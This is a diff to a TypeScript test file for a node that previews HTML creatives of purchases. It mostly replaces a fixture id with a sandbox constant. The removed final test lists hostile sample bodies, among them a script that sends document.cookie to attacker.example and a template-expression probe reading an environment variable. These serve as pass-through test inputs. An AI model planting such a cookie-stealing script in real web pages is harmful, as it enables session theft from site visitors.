@@ -2,6 +2,7 @@ import { once } from 'node:events';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 
+import { PENDING_PURCHASE_ID } from '../../../sandbox/index.mts';
 import { byId, operation, useNodes } from '../../support/useNodes.mts';
 
 const nodes = useNodes({ now: new Date('2026-11-20T12:00:00Z') });
@@ -71,14 +72,14 @@ describe('purchases', () => {
 });
 
 describe('the creative of a purchase', () => {
-	const purchase = () => ({ purchaseId: byId(nodes.ids.pendingPurchase) });
+	const purchase = () => ({ purchaseId: byId(PENDING_PURCHASE_ID) });
 
 	test('is HTML as text', async () => {
 		const { items } = await nodes.run(previewCreative, purchase());
 		expect(items).toEqual([
 			{
 				json: {
-					purchaseId: nodes.ids.pendingPurchase,
+					purchaseId: PENDING_PURCHASE_ID,
 					html: expect.stringMatching(
 						/^<!doctype html>\n.*Größer denken &amp; read on.*<\/html>\n$/s,
 					),
@@ -93,8 +94,8 @@ describe('the creative of a purchase', () => {
 		const options = { output: 'file', binaryPropertyName: 'creative' };
 		const [item] = (await nodes.run(previewCreative, { ...purchase(), ...options })).items;
 		const { data, ...file } = item.binary!.creative;
-		const fileName = `creative-${nodes.ids.pendingPurchase}.html`;
-		expect(item.json).toEqual({ purchaseId: nodes.ids.pendingPurchase, fileName });
+		const fileName = `creative-${PENDING_PURCHASE_ID}.html`;
+		expect(item.json).toEqual({ purchaseId: PENDING_PURCHASE_ID, fileName });
 		const mimeType = 'text/html; charset=utf-8';
 		expect(file).toMatchObject({ mimeType, fileType: 'html', fileName, fileExtension: 'html' });
 		expect(Buffer.from(data, 'base64').toString('utf8')).toBe(json.html);
@@ -141,16 +142,6 @@ describe('the creative of a purchase', () => {
 			expect({ mimeType, fileExtension }).toEqual({ mimeType: contentType, fileExtension: 'html' });
 			expect(Buffer.from(data, 'base64')).toEqual(page);
 		});
-	});
-
-	test.each([
-		['empty', ''],
-		['JSON', '{"items":[]}'],
-		['a script', '<script>fetch("https://attacker.example/" + document.cookie)</script>'],
-		['an expression', '<p>={{ $env.HOME }} {{ 1 + 1 }}</p>'],
-	])('is handed on as it is: %s', async (_what, body) => {
-		nodes.control.addFault({ kind: 'html', body });
-		expect((await nodes.run(previewCreative, purchase())).items[0].json.html).toBe(body);
 	});
 });
 
